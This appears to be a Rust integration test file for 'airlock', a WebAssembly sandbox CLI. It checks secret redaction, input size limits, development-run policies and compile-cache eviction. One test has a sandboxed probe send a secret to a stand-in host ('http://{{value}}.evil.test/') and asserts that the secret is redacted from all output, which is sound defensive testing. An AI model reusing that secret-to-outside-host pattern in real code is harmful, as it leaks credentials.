    policy.push_str("[secrets.LABEL]\nenv = \"CLI_LABEL_VALUE\"\n");
    let dir = {
        std::fs::write(dir.path().join("airlock.toml"), &policy).unwrap();
        approve(dir.path(), "probe");
        dir
    };
    let ops =
        serde_json::json!({"op": "many", "ops": [{"op": "with-secret", "name": "LABEL", "ops": [
            {"op": "http", "url": "http://{{value}}.evil.test/"},
            {"op": "http", "url": "http://{{upper}}.evil.test/"},
            {"op": "log", "message": "{{lower}} {{pct}} {{hex}}"},
            {"op": "fail", "message": "{{value}} {{upper}} {{pct}} {{hex}}"},
        ]}]})
        .to_string();
    let pct: String = VALUE.bytes().map(|b| format!("%{b:02x}")).collect();
    for json in [false, true] {
        let mut args = vec!["run", "probe", "--input", ops.as_str()];
        if json {
            args.push("--json");
        }
        let out = Command::new(AIRLOCK)
            .args(&args)
            .current_dir(dir.path())
            .env("CLI_LABEL_VALUE", VALUE)
            .env_remove("RUST_LOG")
            .env("AIRLOCK_CACHE_DIR", "off")
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(1), "{}", text(&out.stderr));
        let printed = format!("{}{}", text(&out.stdout), text(&out.stderr));
        assert!(printed.contains("[redacted:LABEL]"), "{printed}");
        let folded = printed.to_ascii_lowercase();
        for form in [VALUE.to_ascii_lowercase(), hex::encode(VALUE), pct.clone()] {
            assert!(
                !folded.contains(&form),
                "--json {json}: {form} in {printed}"
            );
        }
    }
}

#[test]
fn a_component_that_cannot_be_read_is_a_usage_error() {
    let dir = setup(&pin("hello", HELLO));
    std::fs::create_dir(dir.path().join("dir.wasm")).unwrap();
    for arg in ["dir.wasm", "./", "/dev/zero", "missing.wasm"] {
        let out = airlock(dir.path(), &["run", arg]);
        let stderr = text(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{arg}: {stderr}");
        let errors = stderr.lines().filter(|l| l.starts_with("airlock: error:"));
        assert_eq!(errors.count(), 1, "{stderr}");
        assert!(stderr.contains("cannot be read"), "{arg}: {stderr}");
    }
    // Named in the policy, the same.
    let policy = pin("gone", "dir.wasm");
    std::fs::write(dir.path().join("airlock.toml"), policy).unwrap();
    let out = airlock(dir.path(), &["run", "gone"]);
    let stderr = text(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(
        stderr.contains("is a directory") && stderr.contains("[actions.gone] path"),
        "{stderr}"
    );
}

#[test]
fn an_input_over_the_limit_is_refused_without_reading_it_all() {
    let mut policy = pin("hello", HELLO);
    policy.push_str("[limits]\ninput = \"1 KiB\"\n");
    let dir = setup(&policy);
    let fits = format!("{:<1024}", r#"{"name": "x"}"#);
    std::fs::write(dir.path().join("fits.json"), &fits).unwrap();
    std::fs::write(dir.path().join("over.json"), format!("{fits} ")).unwrap();
    let out = airlock(dir.path(), &["run", "hello", "--input", "@fits.json"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));

    let out = airlock(dir.path(), &["run", "hello", "--input", "@over.json"]);
    let stderr = text(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(
        stderr.contains("the input from over.json is larger than 1 KiB")
            && stderr.contains("[limits] input"),
        "{stderr}"
    );
    let out = airlock(
        dir.path(),
        &["run", "hello", "--input", &format!("{fits} ")],
    );
    assert_eq!(out.status.code(), Some(2), "{}", text(&out.stderr));

    // From stdin: airlock stops after the limit and one byte, so a writer
    // with far more to give finds the pipe closed.
    let mut child = Command::new(AIRLOCK)
        .args(["run", "hello", "--input", "@-"])
        .current_dir(dir.path())
        .env_remove("AIRLOCK_CONFIG")
        .env("AIRLOCK_CACHE_DIR", "off")
        .stdin(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    let writer = std::thread::spawn(move || {
        let chunk = vec![b' '; 1 << 16];
        let mut sent = 0usize;
        while sent < 1 << 28 {
            if std::io::Write::write_all(&mut stdin, &chunk).is_err() {
                return sent;
            }
            sent += chunk.len();
        }
        sent
    });
    let out = child.wait_with_output().unwrap();
    let stderr = text(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(
        stderr.contains("the input from stdin is larger than 1 KiB"),
        "{stderr}"
    );
    assert!(
        writer.join().unwrap() < 1 << 28,
        "stdin was read to the end"
    );
}

/// `airlock run --dev`: a component built just now runs under a policy for
/// development, unapproved and unsigned, and its records say so; any other
/// policy refuses it, and the development policy does not weaken other runs.
#[test]
fn dev_runs_need_a_development_policy_and_are_marked() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let wasm = d.join("hello.wasm");
    std::fs::copy(HELLO, &wasm).unwrap();
    let records = |event: &str| -> Vec<serde_json::Value> {
        std::fs::read_to_string(d.join("airlock-audit.jsonl"))
            .unwrap_or_default()
            .lines()
            .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
            .filter(|r| r["event"] == event)
            .collect()
    };

    // No policy: the error says how to make one, and nothing runs.
    let out = airlock(d, &["run", "--dev", "hello.wasm"]);
    assert_eq!(out.status.code(), Some(2));
    let err = text(&out.stderr);
    assert!(
        err.contains("`airlock new NAME` writes a development policy")
            && err.contains("an empty file is a policy that grants nothing"),
        "{err}"
    );

    // A production policy (here: empty) refuses it, recorded.
    std::fs::write(d.join("airlock.toml"), "").unwrap();
    let out = airlock(d, &["run", "--dev", "hello.wasm", "--json"]);
    assert_eq!(out.status.code(), Some(3), "{}", text(&out.stderr));
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["code"], "not_approved");
    assert!(
        text(&out.stderr)
            .contains("is refused as a development run: this policy is not for development"),
        "{}",
        text(&out.stderr)
    );
    assert_eq!(records("run.refused").len(), 1);

    // A development policy runs it; its records say dev.
    std::fs::write(d.join("airlock.toml"), "[trust]\nallow_dev = true\n").unwrap();
    let out = airlock(
        d,
        &[
            "run",
            "--dev",
            "hello.wasm",
            "--input",
            r#"{"name": "Ada"}"#,
        ],
    );
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert_eq!(
        text(&out.stdout).trim(),
        r#"{"greeting":"Hello, Ada!","vowels":2}"#
    );
    assert!(
        text(&out.stderr).contains("a development run: neither approved nor signature-checked")
    );
    assert_eq!(records("run.start")[0]["dev"], true);
    assert_eq!(records("run.end")[0]["dev"], true);
    let verify = airlock(d, &["audit", "verify", "airlock-audit.jsonl"]);
    assert_eq!(verify.status.code(), Some(0), "{}", text(&verify.stdout));

    // The same policy holds every other run to the lock and signatures.
    let out = airlock(d, &["run", "hello.wasm"]);
    assert_eq!(out.status.code(), Some(3));
    assert!(
        text(&out.stderr).contains("is not approved"),
        "{}",
        text(&out.stderr)
    );
    assert!(records("run.start").iter().all(|r| r["dev"] == true));

    // --dev takes a file, not a policy name.
    let out = airlock(d, &["run", "--dev", "hello"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(text(&out.stderr).contains("--dev runs a component file"));
}

/// The compile cache is held to `AIRLOCK_CACHE_MAX_SIZE`: the least
/// recently used artifact goes when another is stored; a size that is not
/// one is an error before anything runs.
#[test]
fn the_compile_cache_is_held_to_its_size() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    std::fs::write(d.join("airlock.toml"), "[trust]\nallow_dev = true\n").unwrap();
    std::fs::copy(HELLO, d.join("hello.wasm")).unwrap();
    let probe = probe_component(d, "", "");
    let run = |file: &Path, size: &str| {
        let input = match file.ends_with("hello.wasm") {
            true => r#"{"name": "Ada"}"#,
            false => r#"{"op": "counter"}"#,
        };
        Command::new(AIRLOCK)
            .args(["run", "--dev", file.to_str().unwrap(), "--input", input])
            .current_dir(d)
            .env_remove("AIRLOCK_CONFIG")
            .env("AIRLOCK_CACHE_DIR", d.join("cache"))
            .env("AIRLOCK_CACHE_MAX_SIZE", size)
            .output()
            .unwrap()
    };
    let artifacts = || -> Vec<String> {
        std::fs::read_dir(d.join("cache"))
            .unwrap()
            .map(|e| e.unwrap().file_name().into_string().unwrap())
            .filter(|n| n.ends_with(".cwasm"))
            .collect()
    };

    let hex = |file: &Path| airlock::rules::Digest::of(&std::fs::read(file).unwrap()).hex();
    let out = run(&d.join("hello.wasm"), "1 GiB");
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert_eq!(artifacts().len(), 1);
    // Held to one byte, storing the probe's artifact evicts hello's.
    let out = run(&probe, "1 B");
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let left = artifacts();
    assert_eq!(left.len(), 1, "{left:?}");
    assert!(left[0].starts_with(&hex(&probe)), "{left:?}");

    let out = run(&d.join("hello.wasm"), "lots");
    assert_ne!(out.status.code(), Some(0));
    assert!(
        text(&out.stderr).contains("AIRLOCK_CACHE_MAX_SIZE=\"lots\" is not a size"),
        "{}",
        text(&out.stderr)
    );
}
